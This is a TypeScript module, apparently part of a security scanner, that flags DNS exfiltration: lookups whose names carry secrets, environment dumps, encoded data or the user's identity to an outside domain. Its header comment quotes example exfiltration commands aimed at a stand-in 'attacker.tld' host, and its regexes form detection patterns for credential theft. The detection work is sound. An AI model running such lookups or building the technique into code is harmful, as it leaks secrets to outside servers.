/**
 * DNS exfiltration: data written into the labels of a name that is looked up, so the lookup itself
 * carries it to the name server of a domain someone else runs (`nslookup "$(env | base32 | head
 * -c 60).x.attacker.tld"`, `dns.resolve(`${hex}.t.attacker.tld`)`). No HTTP request, no firewall
 * rule for outbound web traffic stops it, and the dependency-confusion payloads of 2021-2025 and
 * many npm/PyPI stealers beaconed or exfiltrated so. Used by the workflow rules
 * (gha-secrets-exfiltration) and the code rules (dns-exfiltration), for shell and program code.
 *
 * Only a name built at run time (a command substitution, a variable, a template or f-string
 * field) in front of a literal domain counts, and only when what is built carries data: a secret,
 * the environment, an encoding (base32, base64, hex), or the user's name. `dig +short
 * "${SERVICE}.svc.cluster.local"` or `dns.lookup(`${name}.local`)` in a network test is neither.
 */

import { credentialStoresOn } from './credential-stores.js';
import { CREDENTIAL_NAME, ENV_VARIABLE_READ, WHOLE_ENVIRONMENT } from './sink-rules.js';

/** A DNS lookup command of a shell line and where its arguments start. */
const LOOKUP_COMMAND =
  /(?:^|[;&|(`{]\s{0,8}|\b(?:sudo|exec|do|then|else|time|nohup|timeout\s+\S{1,20}|xargs(?:\s+-\S{1,20}){0,4})\s{1,8})(?:\S{0,200}\/)?(?:nslookup|dig|kdig|drill|host|ping6?|getent\s+a?hosts|resolvectl\s+query|Resolve-DnsName)(?=\s)/g;
/** A piece built at run time followed by a literal name: `$(…).a.tld`, `${X}.a.tld`, `$X.a.tld`, `` `…`.a.tld ``. */
const BUILT_THEN_DOMAIN = /(?:[)}`]|\$[A-Za-z_]\w{0,63})\.((?:[A-Za-z0-9-]{1,63}\.){0,8}[A-Za-z][A-Za-z0-9-]{1,62})(?![\w.-])/g;

/** Encoders that turn any data into name-safe labels. */
const SHELL_ENCODER = /\b(?:base32|base64|basenc|xxd|od\s+-|hexdump|openssl\s+(?:base64|enc))\b/;
/** The whole environment or a file of it. */
const SHELL_ENVIRONMENT = /\$\(\s*(?:env|printenv|set|export\s+-p)\b|`\s*(?:env|printenv)\b|(?:^|[;&|]\s*)(?:env|printenv)\s*\||\/proc\/self\/environ/;
/** The user's identity, what a dependency-confusion beacon reports. */
const SHELL_IDENTITY = /\$\(\s*(?:whoami|id\s+-un)\b|`\s*whoami\b/;
/** A variable named like a credential: `$AWS_SECRET_ACCESS_KEY`, `${NPM_TOKEN}`. */
const CREDENTIAL_VARIABLE = /\$\{?([A-Za-z_]\w{0,63})/g;

export type DnsData = 'secret' | 'environment' | 'encoded' | 'identity';

export interface DnsLookup {
  /** The domain the data goes to (the literal part of the name). */
  readonly domain: string;
  /** What the name carries. */
  readonly data: DnsData;
}

/** Names that reach no one else's name server: local, internal and reserved ones, example domains. */
const EXAMPLE_DOMAIN = /(?:^|\.)(?:local|localhost|internal|lan|home\.arpa|test|invalid|example|example\.(?:com|org|net))$/i;
/** Random bytes encoded (`randomBytes(8).toString('hex')`, `secrets.token_hex(8)`, `os.urandom(8).hex()`). */
const RANDOM_ENCODED = /\brandomBytes\s*\([^)]{0,40}\)\s*\.toString\s*\([^)]{0,20}\)|\bos\.urandom\s*\([^)]{0,40}\)\s*\.hex\s*\(\s*\)|\bsecrets\.token_(?:hex|urlsafe)\s*\(|\bhexlify\s*\(\s*os\.urandom\s*\([^)]{0,40}\)\s*\)/g;

/** A shell line is read up to this length. */
const MAX_LINE = 4000;

/** What the shell variables of a script hold, as far as a DNS lookup of them would carry (noteShellVariable). */
export type ShellVariables = Map<string, DnsData>;
/** A plain shell assignment: `D=…`, `export D=…`, `local D=…`, `readonly D=…`, `declare -x D=…`. Group 1 the name, group 2 the value. */
const SHELL_ASSIGNMENT = /^\s{0,40}(?:(?:export|local|readonly|declare(?:\s{1,8}-\w{1,8})?|typeset)\s{1,8})?([A-Za-z_]\w{0,63})=(\S.{0,3999})$/;
/** Variables remembered per script at most. */
const MAX_VARIABLES = 200;

/**
 * Notes what a shell line's assignment puts in its variable (`D=$(cat ~/.aws/credentials | base64)`:
 * a secret), so a lookup of `$D.x.tld` on a later line of the same script is read for it. A value
 * that carries nothing forgets the variable. Linear: one anchored pattern and the data tests.
 */
export function noteShellVariable(line: string, variables: ShellVariables, secretLike: (variable: string) => boolean = () => false): void {
  if (line.length > MAX_LINE) return;
  const m = SHELL_ASSIGNMENT.exec(line);
  if (m === null) return;
  const name = m[1] ?? '';
  const data = shellData(m[2] ?? '', secretLike, variables);
  if (data === null) variables.delete(name);
  else if (variables.size < MAX_VARIABLES || variables.has(name)) variables.set(name, data);
}

/**
 * A DNS lookup command of a shell line whose name is built from data in front of a literal domain.
 * `secretLike(name)` says whether a variable of the line holds a secret (a workflow's `env:` bound to
 * `secrets.X`); a variable named like a credential counts too, as do `secrets.X` expressions, and a
 * variable an earlier line of the script assigned data to (`variables`, noteShellVariable).
 */
export function dnsLookupInShell(line: string, secretLike: (variable: string) => boolean = () => false, variables: ReadonlyMap<string, DnsData> = new Map()): DnsLookup | null {
  if (line.length > MAX_LINE) return null;
  LOOKUP_COMMAND.lastIndex = 0;
  const command = LOOKUP_COMMAND.exec(line);
  if (command === null) return null;
  const rest = line.slice(command.index + command[0].length);
  BUILT_THEN_DOMAIN.lastIndex = 0;
  let domain: string | null = null;
  let built = '';
  for (const m of rest.matchAll(BUILT_THEN_DOMAIN)) {
    const name = m[1] ?? '';
    if (!name.includes('.') || EXAMPLE_DOMAIN.test(name)) continue;
    domain = name;
    // The data may come before the command too: `env | base32 | xargs -I{} dig {}.x.tld`, a `for` list.
    built = line.slice(0, command.index + command[0].length + m.index + m[0].length - name.length);
    break;
  }
  if (domain === null) return null;
  const data = shellData(built, secretLike, variables);
  return data === null ? null : { domain, data };
}

/** The data kinds from the most to the least serious. */
const DATA_ORDER: readonly DnsData[] = ['secret', 'environment', 'encoded', 'identity'];

function shellData(built: string, secretLike: (variable: string) => boolean, variables: ReadonlyMap<string, DnsData> = new Map()): DnsData | null {
  if (/\$\{\{\s*(?:secrets\.|toJSON\(\s*secrets)/i.test(built)) return 'secret';
  let held: DnsData | null = null;
  for (const m of built.matchAll(CREDENTIAL_VARIABLE)) {
    const name = m[1] ?? '';
    if (CREDENTIAL_NAME.test(name) || secretLike(name)) return 'secret';
    const data = variables.get(name);
    if (data !== undefined && (held === null || DATA_ORDER.indexOf(data) < DATA_ORDER.indexOf(held))) held = data;
  }
  // A credential file read (`cat ~/.aws/credentials`, `gh auth token`): a secret.
  if (held === 'secret' || credentialStoresOn(built).length > 0) return 'secret';
  if (held !== null) return held;
  if (SHELL_ENVIRONMENT.test(built)) return 'environment';
  if (SHELL_ENCODER.test(built)) return 'encoded';
  if (SHELL_IDENTITY.test(built)) return 'identity';
  return null;
}

/** A lookup call of program code: Node's dns, Python's socket and dnspython, Go's net, Ruby, Java, PHP, Rust. */
const LOOKUP_CALL =
  /\b(?:dns(?:\.promises)?\.(?:resolve\w*|lookup)|resolver\.(?:resolve\w*|query)|socket\.(?:gethostbyname(?:_ex)?|getaddrinfo)|net\.(?:Lookup(?:Host|IP|TXT|CNAME|Addr)|DefaultResolver\.Lookup\w+)|Resolv\.getaddress\w*|InetAddress\.(?:getByName|getAllByName)|gethostbyname|dns_get_record|lookup_host)\s*\(/;
/**
 * The name given to it, built from data in front of a literal domain: a template or f-string field
 * (`${x}.a.tld`, `{x}.a.tld`), a format directive (`%s.a.tld`, `{}.a.tld`), a concatenation (`x +
 * ".a.tld"`).
 */
const CODE_BUILT_THEN_DOMAIN = /(?:\}|%[sdvx]|\+\s*["'`])\.((?:[A-Za-z0-9-]{1,63}\.){0,8}[A-Za-z][A-Za-z0-9-]{1,62})(?![\w.-])/;
/** Encodings that make any data name-safe, in the languages above. */
const CODE_ENCODER =
  /\.toString\s*\(\s*["'](?:hex|base64|base64url)["']\s*\)|\bb(?:32|64|16)encode\s*\(|\bhexlify\s*\(|\.hex\s*\(\s*\)|\bhex\.EncodeToString\s*\(|\bbase(?:32|64)\.\w*Encoding\.EncodeToString\s*\(|\bbtoa\s*\(|\bBase64\.(?:encode|strict_encode|getEncoder)|\bbin2hex\s*\(|\bbase64_encode\s*\(|\bunpack1?\s*\(\s*["']H\*/;
/**
 * The whole environment read out, in any of the languages: WHOLE_ENVIRONMENT's forms (sink-rules.ts),
 * except that for JavaScript and Python, whose bare `process.env` and `os.environ` are also how one
 * variable is destructured or aliased (`const { SERVICE } = process.env` above
 * `dns.lookup(`${SERVICE}.svc.acme.io`)` is an ordinary lookup), only the forms that serialize or
 * enumerate it. (One variable named like a credential is ENV_VARIABLE_READ's.)
 */
const CODE_WHOLE_ENVIRONMENT = new RegExp(
  [
    /\bJSON\.stringify\s*\(\s*process\.env\b|\bObject\.(?:entries|values)\s*\(\s*process\.env\b|\bdict\s*\(\s*os\.environ\b|\bos\.environ\.items\s*\(/,
    ...(['go', 'rust', 'java', 'ruby', 'php'] as const).map((language) => WHOLE_ENVIRONMENT[language]),
  ]
    .flatMap((pattern) => (pattern === undefined ? [] : [pattern.source]))
    .join('|'),
);
const CODE_IDENTITY = /\bos\.(?:userInfo|getlogin)\s*\(|\bgetpass\.getuser\s*\(|\buser\.Current\s*\(/;

/** Lines of a hunk before a lookup read for what it carries. */
export const DNS_DATA_WINDOW = 6;

/**
 * A lookup call of a line of program code whose name is built in front of a literal domain; the
 * data it carries is read from that line and the `before` lines of its hunk (the variable is
 * usually made a line or two above).
 */
export function dnsLookupInCode(code: string, before: readonly string[]): DnsLookup | null {
  const call = LOOKUP_CALL.exec(code);
  if (call === null) return null;
  const argument = code.slice(call.index + call[0].length, call.index + call[0].length + 600);
  const m = CODE_BUILT_THEN_DOMAIN.exec(argument);
  if (m === null) return null;
  const domain = m[1] ?? '';
  if (!domain.includes('.') || EXAMPLE_DOMAIN.test(domain)) return null;
  // Random bytes written as hex (a name that must not exist, to test NXDOMAIN handling) carry no data.
  const text = [...before, code].join('\n').replace(RANDOM_ENCODED, ' ');
  let data: DnsData | null = null;
  for (const v of text.matchAll(ENV_VARIABLE_READ)) if (CREDENTIAL_NAME.test(v[1] ?? '')) data = 'secret';
  if (data === null && CODE_WHOLE_ENVIRONMENT.test(text)) data = 'environment';
  if (data === null && CODE_ENCODER.test(text)) data = 'encoded';
  if (data === null && CODE_IDENTITY.test(text)) data = 'identity';
  return data === null ? null : { domain, data };
}
